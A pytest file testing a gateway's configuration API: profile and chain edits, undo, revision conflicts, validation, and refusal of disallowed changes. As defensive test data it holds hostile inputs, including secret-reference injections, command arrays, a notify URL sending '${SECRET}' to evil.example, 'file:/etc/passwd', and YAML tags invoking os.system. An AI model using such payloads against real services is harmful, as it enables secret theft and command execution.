"""The configuration is changed over HTTP, in the file, and what is for the file alone is not."""

from __future__ import annotations

import json
import logging
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any

import pytest

from tests.config.rings import ring_in_use
from tests.gateway.steered import steering

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from spillover.simulator import SimulatedProvider
    from tests.gateway.steered import Steered


@pytest.fixture(scope="module")
def same(
    tmp_path_factory: pytest.TempPathFactory, both: tuple[SimulatedProvider, ...]
) -> Iterator[Steered]:
    """One for all tests that leave it as it was."""
    with steering(tmp_path_factory.mktemp("same"), both) as found:
        yield found


@pytest.fixture
def steered(tmp_path: Path, both: tuple[SimulatedProvider, ...]) -> Iterator[Steered]:
    with steering(tmp_path, both) as found:
        yield found


def test_an_order_is_in_force_when_it_is_answered_and_comments_are_kept(steered: Steered) -> None:
    before = steered.text

    changed = steered.put("/api/chains/default", {"profiles": ["two", "one"]}).json

    assert steered.served.chat().headers["x-spillover-profile"] == "two"
    assert steered.text == before.replace("[one, two]", "[two, one]")
    assert (changed["profiles"], changed["serving"]) == (["two", "one"], "two")
    assert changed["config"]["profiles"] == [{"profile": "two"}, {"profile": "one"}]
    assert changed["change"]["what"] == "change chain default: profiles"


def test_a_profile_is_added_changed_and_removed(steered: Steered) -> None:
    before, address = steered.text, steered.config()["profiles"]["two"]["base_url"]
    body = {"name": "new", "base_url": address, "model": "m", "limits": {"requests_per_day": 5}}

    added = steered.post("/api/profiles", {**body, "chain": "default", "position": 0})
    served = steered.served.chat().headers["x-spillover-profile"]
    changed = steered.put("/api/profiles/new", {"limits": None, "title": "New: # 1"}).json
    in_use = steered.delete("/api/profiles/new")
    removed = steered.delete("/api/profiles/new?from_chains=true").json

    assert (added.status, added.json["name"], added.json["status"]) == (201, "new", "active")
    assert added.json["limits"][0]["amount"] == 5
    assert served == "new"
    assert (changed["title"], changed["limits"], changed["config"]["title"]) == (
        "New: # 1",
        [],
        "New: # 1",
    )
    assert (in_use.status, in_use.error["code"]) == (409, "in_use")
    assert in_use.error["chains"] == ["default"]
    assert (removed["deleted"], removed["from_chains"]) == ("new", ["default"])
    assert steered.text == before


def test_a_profile_of_the_catalogue_is_named_and_keyed_by_itself(steered: Steered) -> None:
    added = steered.post(
        "/api/profiles",
        {
            "provider": "groq",
            "key": {"env": "GROQ_API_KEY"},
            "model": "openai/gpt-oss-20b",
            "limits": "free",
        },
    ).json

    assert added["name"] == "groq-2"
    assert added["config"]["key"] == {
        "kind": "env",
        "reference": "${GROQ_API_KEY}",
        "found": True,
        "origin": "https://api.groq.com:443",
    }
    assert added["account"] == "groq"
    assert 'groq-2: {provider: groq, api_key: "${GROQ_API_KEY}", model: ' in steered.text


def test_a_pasted_key_serves_and_is_nowhere_to_be_seen(
    steered: Steered, both: tuple[SimulatedProvider, ...], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    key, address = "sk-pasted-0123456789abcdef", steered.config()["profiles"]["two"]["base_url"]
    body = {"name": "new", "base_url": address, "model": "m", "key": {"paste": key}}

    with ring_in_use() as ring:
        added = steered.post("/api/profiles", body)
        steered.served.post("/v1/chat/completions", {"model": "new", "messages": []})
        refused = steered.post("/api/profiles", {**body, "name": "newer", "tier": "fre"})
        held = list(ring.held.values())

    assert added.status == 201
    assert both[1].records[-1].headers["authorization"] == "sk-…ef"
    assert (refused.status, held) == (400, [key])
    events = steered.served.get("/api/events/recent").body + steered.served.get("/api/config").body
    kept = b"".join(path.read_bytes() for path in steered.path.parent.rglob("*.json"))
    everything = added.body + refused.body + events + kept + steered.path.read_bytes()
    assert key.encode() not in everything
    assert key not in caplog.text


def test_chains_come_and_go(steered: Steered) -> None:
    added = steered.post(
        "/api/chains",
        {
            "name": "work",
            "profiles": ["two", {"profile": "one", "weight": 2}],
            "strategy": "weighted",
        },
    )
    aliased = steered.put("/api/config", {"aliases": {"claude-*": "work"}})
    in_use = steered.delete("/api/chains/work")
    steered.post("/api/config/undo")
    removed = steered.delete("/api/chains/work")

    assert (added.status, added.json["strategy"]) == (201, "weighted")
    assert aliased.json["aliases"] == {"claude-*": "work"}
    assert (in_use.status, in_use.error["aliases"]) == (409, ["claude-*"])
    assert removed.json["deleted"] == "work"


def test_a_chain_is_renamed_where_it_stands(steered: Steered) -> None:
    steered.post("/api/chains/default/pin", {"profile": "two", "strict": True})

    renamed = steered.put("/api/chains/default", {"name": "work"})
    steered.put("/api/chains/work", {"strategy": "fastest"})
    taken = steered.put("/api/chains/work", {"name": "one"})

    assert (renamed.status, renamed.json["name"]) == (200, "work")
    assert renamed.json["change"]["what"] == "rename chain default to work"
    assert "work: {profiles: [one, two], strategy: fastest}   # in this order" in steered.text
    assert '"gpt-*": work' in steered.text
    assert steered.served.get("/api/chains/work").json["pinned"] == "two"
    assert (taken.status, taken.error["code"]) == (409, "name_taken")


def test_what_holds_for_all_is_changed_and_tokens_of_notices_stay(steered: Steered) -> None:
    first = steered.put("/api/config", {"notify": ["desktop", "ntfy://a-topic-of-mine"]}).json
    second = steered.put(
        "/api/config",
        {"privacy": True, "routing_policy": "free-tier", "notify": first["notify"][1:]},
    ).json

    assert first["notify"] == ["desktop", "ntfy://a-to…mine"]
    assert (second["privacy"], second["routing_policy"]) == (True, "free-tier")
    assert '\nnotify: ["ntfy://a-topic-of-mine"]\n' in steered.text
    assert steered.served.chat().status == 403


def test_a_change_that_changes_nothing_is_none(steered: Steered) -> None:
    shown = steered.config()["profiles"]["one"]
    told = {"key", "fixed", "chains", "revision"}
    same = {key: value for key, value in shown.items() if key not in told}

    assert steered.put("/api/profiles/one", same).json["change"] is None
    assert steered.config()["undo"] is None


def test_undo_and_versions(steered: Steered) -> None:
    before = steered.text
    steered.put("/api/profiles/one", {"title": "1"})
    steered.put("/api/profiles/one", {"title": "2"})

    listed = steered.served.get("/api/config/versions").json
    undone = steered.post("/api/config/undo").json
    first = steered.post("/api/config/undo", {}).json
    text = steered.text
    nothing = steered.post("/api/config/undo")
    again = steered.post("/api/config/undo", {"to": 3}).json

    assert [each["what"] for each in listed["versions"]] == [
        "change profile one: title",
        "change profile one: title",
        "before the first change",
    ]
    assert (listed["current"], undone["restored"]["id"], first["restored"]["id"]) == (3, 2, 1)
    assert text == before
    assert (nothing.status, nothing.error["code"]) == (409, "nothing_to_undo")
    assert again["restored"]["id"] == 3
    assert steered.served.get("/api/profiles/one").json["title"] == "2"


def test_a_form_that_is_out_of_date_changes_nothing(steered: Steered) -> None:
    revision = steered.config()["revision"]
    steered.put("/api/profiles/one", {"title": "1"}, if_match=f'"{revision}"')

    late = steered.put("/api/profiles/one", {"title": "2"}, if_match=f'"{revision}"')

    assert (late.status, late.error["code"]) == (409, "config_changed")
    assert steered.served.get("/api/profiles/one").json["title"] == "1"


def test_a_change_of_something_else_is_in_nobodys_way(steered: Steered) -> None:
    before = steered.config()
    one, chain = before["profiles"]["one"]["revision"], before["chains"]["default"]["revision"]

    steered.put("/api/profiles/two", {"title": "2"}, if_match=one)
    other = steered.put("/api/profiles/two", {"title": "3"})
    first = steered.put("/api/profiles/one", {"title": "1"}, if_match=one)
    late = steered.put("/api/profiles/one", {"title": "0"}, if_match=one)
    moved = steered.put("/api/chains/default", {"profiles": ["two", "one"]}, if_match=chain)
    lost = steered.put("/api/chains/default", {"profiles": ["one"]}, if_match=chain)

    assert [each.status for each in (other, first, late, moved, lost)] == [200, 200, 409, 200, 409]
    assert late.error["code"] == lost.error["code"] == "config_changed"
    assert first.json["config"]["revision"] == steered.config()["profiles"]["one"]["revision"]


def test_what_is_wrong_is_told_as_the_loader_tells_it(same: Steered) -> None:
    before = same.text

    refused = same.put("/api/profiles/one", {"tier": "fre", "limits": {"tokens_per_hour": "5Q"}})

    problems = {each["key"]: each for each in refused.error["problems"]}
    assert (refused.status, refused.error["code"]) == (400, "invalid_config")
    assert problems["profiles.one.tier"]["nearest"] == "free"
    assert problems["profiles.one.limits.tokens_per_hour"]["found"] == "'5Q'"
    assert same.text == before


@pytest.mark.parametrize(
    ("method", "path", "body", "status"),
    [
        ("PUT", "/api/chains/default", {"profiles": ["one", "default"]}, 400),
        ("PUT", "/api/chains/default", {"profiles": ["one", "one"]}, 400),
        ("PUT", "/api/chains/default", {"profiles": []}, 400),
        ("PUT", "/api/chains/default", {"profiles": ["three"]}, 404),
        ("PUT", "/api/chains/defualt", {"strategy": "fastest"}, 404),
        ("PUT", "/api/profiles/three", {"title": "x"}, 404),
        ("DELETE", "/api/profiles/three", None, 404),
        ("DELETE", "/api/chains/three", None, 404),
        ("DELETE", "/api/chains/default", None, 409),
        ("POST", "/api/chains", {"profiles": ["one"]}, 400),
        ("POST", "/api/chains", {"name": "auto", "profiles": ["one"]}, 400),
        ("POST", "/api/profiles", {"name": "one", "provider": "groq"}, 409),
        ("POST", "/api/profiles", {"name": "a b", "provider": "groq"}, 400),
        ("POST", "/api/profiles", {"name": "x", "provider": "grok"}, 400),
        ("POST", "/api/profiles", {"name": "x", "provider": "groq", "chain": "no"}, 404),
        ("POST", "/api/profiles", {"name": "x", "provider": "groq", "position": -1}, 400),
        ("POST", "/api/profiles", {"name": "x", "provider": "groq", "position": True}, 400),
        ("POST", "/api/profiles", {"name": 5}, 400),
        ("POST", "/api/profiles", [], 400),
        ("PUT", "/api/profiles/one", {"modell": "m"}, 400),
        ("PUT", "/api/profiles/one", {"name": "two"}, 400),
        ("PUT", "/api/config", {"storage": "memory"}, 400),
        ("PUT", "/api/config", {"aliases": {"x": "nobody"}}, 400),
        ("POST", "/api/config/undo", {"to": "1"}, 400),
        ("POST", "/api/config/undo", {"to": 99}, 404),
        ("POST", "/api/profiles", b"{" * 70_000, 413),
    ],
    ids=lambda value: str(value)[:90],
)
def test_what_can_not_be_done_is_refused(
    same: Steered, method: str, path: str, body: object, status: int
) -> None:
    before = same.text

    reply = same.served.ask(method, path, body)

    assert reply.status == status
    assert same.text == before


# What somebody would try who may call the API and should not get further than it.

SELF = "http://127.0.0.1:9/v1"
NESTED: Any = json.loads("[" * 40 + "]" * 40)


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("PUT", "/api/profiles/one", {"api_key": "${SECRET}"}),
        ("PUT", "/api/profiles/one", {"headers": {"x": "${SECRET}"}}),
        ("PUT", "/api/profiles/one", {"upstream": {"command": ["rm", "x"]}}),
        ("POST", "/api/profiles", {"name": "x", "base_url": SELF, "model": "m", "command": ["id"]}),
        ("PUT", "/api/config", {"server": {"host": "0.0.0.0"}}),
        ("PUT", "/api/config", {"client_keys": []}),
        ("PUT", "/api/config", {"admin_key": None}),
        ("PUT", "/api/profiles/one", {"title": "${SECRET}"}),
        ("PUT", "/api/profiles/one", {"tier": "${SECRET}"}),
        ("PUT", "/api/profiles/one", {"limits": {"tokens_per_hour": "${SECRET}"}}),
        ("PUT", "/api/profiles/one", {"alternatives": ["$${SECRET}"]}),
        ("PUT", "/api/chains/default", {"title": "${SECRET:-x}"}),
        ("PUT", "/api/config", {"aliases": {"x": "${SECRET}"}}),
        ("PUT", "/api/config", {"notify": ["https://evil.example/${SECRET}"]}),
        ("PUT", "/api/config", {"notify": ["file:/etc/passwd"]}),
        ("PUT", "/api/profiles/one", {"key": {"env": "SECRET"}}),
        ("PUT", "/api/profiles/one", {"key": {"env": "ONE_KEY"}}),
        ("POST", "/api/profiles", {"name": "x", "provider": "groq", "key": {"env": "ONE_KEY"}}),
        ("POST", "/api/profiles", {"name": "x", "base_url": SELF, "model": "m", "key": {"env": "GROQ_API_KEY"}}),
        ("POST", "/api/profiles", {"name": "x", "provider": "groq", "base_url": SELF, "key": {"env": "GROQ_API_KEY"}}),
        ("PUT", "/api/profiles/groq", {"base_url": SELF, "key": {"env": "GROQ_API_KEY"}}),
        ("POST", "/api/profiles", {"name": "x", "base_url": SELF, "model": "m", "key": {"keyring": "mine"}}),
    ],
    ids=str,
)  # fmt: skip
def test_what_is_for_the_file_alone_is_refused(
    same: Steered, method: str, path: str, body: object
) -> None:
    before = same.text

    with ring_in_use() as ring:
        ring.held["spillover", "mine"] = "the-ring-word"
        reply = same.served.ask(method, path, body)

    assert (reply.status, reply.error["code"]) == (403, "not_by_api")
    assert same.text == before
    for secret in (
        b"the-hidden-word",
        b"gsk_0123456789abcdef",
        b"key-of-one-0123",
        b"the-ring-word",
    ):
        assert secret not in reply.body


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("one", {"base_url": SELF}),
        ("two", {"base_url": SELF}),
        ("two", {"base_url": None, "provider": "groq"}),
        ("groq", {"base_url": SELF}),
        ("groq", {"provider": "openai"}),
        ("groq", {"provider": None, "base_url": SELF, "model": "m"}),
    ],
    ids=str,
)
def test_no_key_is_taken_elsewhere(steered: Steered, name: str, change: dict[str, Any]) -> None:
    before = steered.text

    without = steered.put(f"/api/profiles/{name}", change)
    text = steered.text
    with ring_in_use():
        anew = steered.put(
            f"/api/profiles/{name}", {**change, "key": {"paste": "sk-anew-0123456789"}}
        )

    assert (without.status, without.error["code"]) == (409, "key_needed")
    assert text == before
    assert anew.status == 200


def test_no_key_is_taken_elsewhere_by_an_anchor(
    tmp_path: Path, both: tuple[SimulatedProvider, ...]
) -> None:
    more = "accounts: {}\n"
    with steering(tmp_path, both, more=more) as steered:
        text = steered.text.replace("  two:\n", "  kin: {<<: *one, model: m3}\n  two:\n")
        steered.path.write_text(text.replace("one: {base", "one: &one {base"))
        # The edit by hand is taken over with the first change.
        assert steered.put("/api/profiles/kin", {"title": "kin"}).status == 200

        moved = steered.put("/api/profiles/kin", {"base_url": SELF})
        base = steered.put(
            "/api/profiles/one", {"base_url": SELF, "key": {"paste": "sk-x-0123456789"}}
        )

        assert (moved.status, moved.error["code"]) == (409, "key_needed")
        assert base.status == 200
        assert steered.config()["profiles"]["kin"]["key"]["reference"] == "${ONE_KEY}"
        assert steered.config()["profiles"]["kin"]["base_url"] == both[0].base_url


@pytest.mark.parametrize(
    "title",
    [
        "x\n    api_key: sk-evil",
        "x, api_key: sk-evil}",
        'x", "api_key": "sk-evil',
        "*one",
        "&a b",
        "!!python/object:os.system x",
        "| \n  x",
        "x # y",
        "\u2028x: y",
        "🙂 \\x41 \\",
        "<<",
        "? x\n: y",
        "--- x",
        "%YAML 1.1",
    ],
    ids=repr,
)
def test_text_stays_text(same: Steered, title: str) -> None:
    for name in ("one", "two"):
        changed = same.put(f"/api/profiles/{name}", {"title": title})

        assert changed.status == 200
        assert changed.json["config"]["title"] == title
        assert changed.json["config"]["key"] == same.config()["profiles"][name]["key"]
        assert "sk-evil" not in changed.json["config"]["key"]["reference"]


@pytest.mark.parametrize("value", [NESTED, 10**30, {"requests_per_day": -(10**18)}], ids=range(3))
def test_nothing_is_nested_or_large_beyond_reason(same: Steered, value: object) -> None:
    reply = same.put("/api/profiles/one", {"limits": value})

    assert (reply.status, reply.error["code"]) == (400, "invalid_request")


def test_changes_at_the_same_time_are_all_made(steered: Steered) -> None:
    def add(number: int) -> int:
        body = {"name": f"p{number}", "base_url": SELF, "model": "m", "chain": "default"}
        return steered.post("/api/profiles", body).status

    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(add, range(12)))

    assert set(statuses) == {201}
    names = {f"p{number}" for number in range(12)}
    assert names <= set(steered.served.get("/api/chains/default").json["profiles"])
    assert steered.served.get("/api/config/versions").json["current"] == 13


def test_pages_of_other_sites_and_callers_without_the_key_change_nothing(
    tmp_path: Path, both: tuple[SimulatedProvider, ...]
) -> None:
    keys = 'server: {client_keys: ["a-client-key"], admin_key: "an-admin-key"}\n'
    with steering(tmp_path, both, more=keys) as steered:
        body = {"title": "x"}

        foreign = steered.put("/api/profiles/one", body, origin="https://evil.example")
        client = steered.put("/api/profiles/one", body, authorization="Bearer a-client-key")
        form = steered.put(
            "/api/profiles/one", b'{"title": "x"}', authorization="Bearer an-admin-key", content_type="text/plain"
        )  # fmt: skip
        admin = steered.put("/api/profiles/one", body, authorization="Bearer an-admin-key")

        assert [each.status for each in (foreign, client, form, admin)] == [403, 401, 415, 200]
